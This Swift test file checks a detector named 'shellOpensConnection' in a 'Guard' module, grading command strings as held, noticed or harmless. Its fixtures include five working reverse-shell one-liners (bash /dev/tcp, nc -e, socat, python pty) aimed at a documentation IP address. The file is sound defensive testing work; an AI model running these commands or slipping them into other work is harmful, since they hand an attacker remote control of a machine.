import Testing

@testable import Guard

/// `Signal.shellOpensConnection`.
struct ShellOpensConnectionTests {
  @Test(arguments: [
    "bash -i >& /dev/tcp/203.0.113.7/443 0>&1",
    "nc -e /bin/sh 203.0.113.7 443",
    "cat /tmp/f | sh -i 2>&1 | nc 203.0.113.7 443 > /tmp/f",
    "socat exec:sh tcp:203.0.113.7:443",
    #"python3 -c 'import socket,os,pty;s=socket.socket();os.dup2(s.fileno(),0);pty.spawn("sh")'"#,
  ])
  func `a shell whose commands come over a connection is held`(text: String) {
    #expect(Signal.shellOpensConnection.severity(of: text) == .hold)
  }

  @Test(arguments: [
    "exec 3<>/dev/tcp/192.0.2.1/80",
    "echo x > /dev/udp/192.0.2.1/53",
  ])
  func `a connection of the shell alone is noticed`(text: String) {
    #expect(Signal.shellOpensConnection.severity(of: text) == .notice)
  }

  @Test(arguments: [
    "nc -zv example.com 443",
    "ssh user@host",
    "telnet example.com 80",
    #"git commit -m "/dev/tcp/host/80""#,
    "python3 -c 'import socket; print(socket.gethostname())'",
  ])
  func `other connections are harmless`(text: String) {
    #expect(Signal.shellOpensConnection.severity(of: text) == nil)
  }
}
